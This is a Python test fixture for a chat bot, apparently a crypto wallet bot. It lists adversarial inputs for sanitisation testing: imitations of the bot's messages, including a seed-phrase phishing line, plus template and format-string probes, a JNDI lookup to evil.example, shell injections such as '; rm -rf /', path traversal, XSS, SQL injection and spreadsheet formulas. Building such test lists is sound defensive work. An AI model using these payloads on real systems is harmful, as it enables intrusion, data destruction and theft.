"""Lines that imitate the bot's own, or that something else than a chat would act on."""

OURS = r"""
✅ Withdrawal completed
Ref 7F3K2
### ✅ Wallet linked
⛔ Your wallet is frozen. Write to the team.
Unnamed NFT
Only you can see this · Dismiss
[Withdraw] [Back]
you hold 900
-# As Banq told us 1 minute ago.
⚠️ **Not the same as** your saved address
◀ Back · Next ▶ · Refresh
Banq said no: send your seed phrase to the team
/withdraw does not offer it any more.
Community bot APP Today at 12:00
(edited)
""".strip().splitlines()
FORMATS = r"""
{0.__class__}
{nft}
{}
{0}
{name!r:>1000000}
{{nft}}
%s
%n%n%n
%(name)s
%1000000d
$name
${7*7}
#{7*7}
{{ 7*7 }}
{{ config.items() }}
{% for a in b %}
{# gone #}
<%= 7*7 %>
${jndi:ldap://evil.example/a}
`id`
$(id)
; rm -rf /
| cat
&& true
..\..\..\boot.ini
../../../etc/hostname
%2e%2e%2f
%00
\x41\u0041\N{DIGIT ONE}
&lt;b&gt;&#60;&amp;
""".strip().splitlines()
PAGES = r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
"><b>x</b>
'><i>x</i>
</title><h1>x</h1>
<!-- gone -->
<![CDATA[x]]>
<?xml version='1.0'?>
<a href='//evil.example'>x</a>
<style>*{display:none}</style>
<iframe src=//evil.example>
<marquee>x</marquee>
<br><br><br>
' OR 1=1 --
'; DROP TABLE links; --
" UNION SELECT 1
1); --
/* */
\'; --
LIKE '%_%'
{"name": "x"}
","owner":"me
[1, [2, [3
null
NaN
undefined
__proto__
true
-1
1e999
=1+1
@SUM(1)
a,b;c
""".strip().splitlines()
